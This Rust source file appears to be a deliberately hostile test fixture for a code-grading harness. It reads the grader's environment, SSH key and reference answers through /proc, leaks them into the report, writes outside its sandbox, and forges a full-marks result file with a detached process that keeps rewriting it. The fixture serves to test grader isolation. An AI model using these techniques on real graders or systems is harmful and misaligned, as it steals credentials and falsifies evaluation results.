//! A fake quest that attacks the grader instead of serving: each attack is
//! one a real submission could make, and the grader must defeat them all.
//!
//! Both subcommands, before anything else:
//!
//! 1. **steal secrets**: print every variable of its own environment, and
//!    of the grader's (`/proc/PARENT/environ`), and the grader's decoy
//!    `~/.ssh/id_rsa` – on stdout and stderr, which the report quotes;
//! 2. **read the answers**: the reference's source in the grader's working
//!    directory (`/proc/PARENT/cwd/solutions/quest/src/main.rs`);
//! 3. **write where it must not**: a file in the grader's working
//!    directory, and one in `/tmp`;
//! 4. **forge the grade**: find `--out` on the grader's command line
//!    (`/proc/PARENT/cmdline`), write a full-marks file there, and leave a
//!    detached process (`setsid -f`, a new session) that keeps rewriting
//!    it for ten seconds – long after the grade should be over.
//!
//! Then `serve` prints a listening line for a port nothing listens on and
//! exits, and `get` exits 1: it earns nothing honestly, and fast.
//!
//! Self-contained (std only), so it can also stand in for a submission's
//! `quest/src/main.rs` (the Gradescope rehearsal does that).

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// What every forged file says.
const FORGED: &str = r#"{"score":118,"tests":[],"output":"forged by the submission"}"#;

/// The file the hostile program tries to leave in `/tmp`.
pub const TMP_MARK: &str = "/tmp/harness-hostile-was-here";

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.get(1).map(String::as_str) == Some("detached") {
        keep_forging(args.get(2).map(PathBuf::from));
        return;
    }
    let parent = PathBuf::from(format!("/proc/{}", std::os::unix::process::parent_id()));
    let mut loot = String::new();
    for (name, value) in std::env::vars() {
        loot.push_str(&format!("own env {name}={value}\n"));
    }
    if let Ok(environ) = std::fs::read(parent.join("environ")) {
        for var in environ.split(|&b| b == 0).filter(|v| !v.is_empty()) {
            let var = String::from_utf8_lossy(var);
            loot.push_str(&format!("grader env {var}\n"));
            if let Some(home) = var.strip_prefix("HOME=") {
                steal(&mut loot, &Path::new(home).join(".ssh/id_rsa"));
            }
        }
    }
    steal(&mut loot, &parent.join("cwd/solutions/quest/src/main.rs"));
    let _ = std::fs::write(
        parent.join("cwd/HOSTILE-WAS-HERE"),
        "written by the submission",
    );
    let _ = std::fs::write(TMP_MARK, "written by the submission");
    let out = out_path(&parent);
    if let Some(out) = &out {
        let _ = std::fs::write(out, FORGED);
    }
    detach(out.as_deref());
    // Into the report, if the grader quotes it.
    print!("{loot}");
    eprint!("{loot}");
    match args.get(1).map(String::as_str) {
        Some("serve") => println!("listening on http://127.0.0.1:9"),
        _ => eprintln!("fake: attacked instead of fetching"),
    }
    std::process::exit(1);
}

/// Appends the file's text to `loot`, if it can be read.
fn steal(loot: &mut String, path: &Path) {
    if let Ok(text) = std::fs::read_to_string(path) {
        loot.push_str(&format!("stole {}: {text}\n", path.display()));
    }
}

/// The path after `--out` on the grader's command line.
fn out_path(parent: &Path) -> Option<PathBuf> {
    let cmdline = std::fs::read(parent.join("cmdline")).ok()?;
    let words: Vec<&[u8]> = cmdline.split(|&b| b == 0).collect();
    let at = words.iter().position(|w| *w == b"--out")?;
    let out = PathBuf::from(String::from_utf8_lossy(words.get(at + 1)?).into_owned());
    // Relative to the grader's working directory.
    Some(parent.join("cwd").join(out))
}

/// Leaves a copy of itself in a session of its own, rewriting `out`.
// Never waiting for it is the point.
#[allow(clippy::zombie_processes)]
fn detach(out: Option<&Path>) {
    let Ok(me) = std::env::current_exe() else {
        return;
    };
    let mut command = Command::new("setsid");
    command.arg("-f").arg(me).arg("detached");
    if let Some(out) = out {
        command.arg(out);
    }
    let _ = command
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}

/// The detached copy: rewrite the results for ten seconds.
fn keep_forging(out: Option<PathBuf>) {
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(10) {
        if let Some(out) = &out {
            let _ = std::fs::write(out, FORGED);
        }
        let _ = std::fs::write(TMP_MARK, "written by the detached copy");
        std::thread::sleep(Duration::from_millis(50));
    }
}
